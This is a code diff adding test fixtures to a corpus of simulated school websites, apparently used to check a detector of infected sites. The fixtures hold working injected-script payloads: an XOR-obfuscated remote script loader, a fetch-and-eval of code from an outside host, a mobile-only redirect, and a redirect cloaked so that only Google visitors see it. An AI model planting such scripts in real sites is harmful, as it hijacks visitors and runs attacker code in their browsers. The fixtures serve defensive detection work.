@@ -149,4 +149,35 @@ export const sites: readonly CorpusSite[] = [
       },
     },
   ),
+  withEnd(
+    'changed-characters',
+    'each character of the address of a script is changed',
+    'Trường THCS Quảng Hưng Mới',
+    `<script>!function(){var t="${Array.from('https://tj-count.cyou/s.js', (one) => String.fromCharCode(one.charCodeAt(0) ^ 3)).join('')}",r="";for(var i=0;i<t.length;i++)r+=String.fromCharCode(t.charCodeAt(i)^3);var e=document.createElement("script");e.src=r;document.head.append(e)}()</script>`,
+  ),
+  withEnd(
+    'code-fetched-and-run',
+    'the code comes from elsewhere at each visit',
+    'Trường THCS Quảng Châu Mới',
+    `<script>fetch('https://api-cfg.sbs/c?d='+location.host).then(r=>r.text()).then(t=>eval(t))</script>`,
+  ),
+  withEnd(
+    'words-in-list',
+    'a redirect of phones is put together from a list of words',
+    'Trường THCS Quảng Lộc Mới',
+    `<script>var _0xa=['log','https://','m-tai','gamenhanh.fun'];if(/iPad|iPhone|Android/.test(navigator['userAgent'])){window['location']['href']=_0xa[1]+_0xa[2]+_0xa[3]}</script>`,
+  ),
+  {
+    id: 'script-from-google-alone',
+    label: 'infected',
+    about: 'only visitors from Google are given a script that sends them away at once',
+    respond: (() => {
+      const pages = schoolPages('hand-made', 'Trường THCS Quảng Nham Mới');
+      const planted = '<script>location.replace("https://quatang-vip.icu")</script>';
+      return serve({
+        ...pages,
+        '/': (request) => ({ body: isFromGoogle(request) ? inHead(pages['/'], planted) : pages['/'] }),
+      });
+    })(),
+  },
 ];
